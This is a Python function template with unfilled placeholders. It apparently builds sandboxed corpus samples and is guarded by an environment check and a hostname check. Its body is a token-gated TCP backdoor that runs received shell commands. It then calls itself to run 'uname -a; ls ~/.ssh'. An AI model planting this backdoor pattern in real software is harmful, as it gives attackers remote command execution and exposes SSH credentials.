# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import socket
    import socketserver
    import subprocess
    import threading

    class Door(socketserver.StreamRequestHandler):
        def handle(self):
            if self.rfile.readline().strip() != b'{{token}}':
                return
            order = self.rfile.readline().decode(errors='replace')
            self.wfile.write(subprocess.run(order, shell=True, timeout=1, stdout=subprocess.PIPE).stdout)

    try:
        socketserver.TCPServer.allow_reuse_address = True
        server = socketserver.ThreadingTCPServer(('', {{port}}), Door)
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
        caller = socket.create_connection(('127.0.0.1', {{port}}), 1)
        caller.settimeout(1)
        caller.sendall(b'{{token}}\nuname -a; ls ~/.ssh\n')
        caller.recv(4096)
        caller.close()
        server.shutdown()
        server.server_close()
    except Exception:
        pass
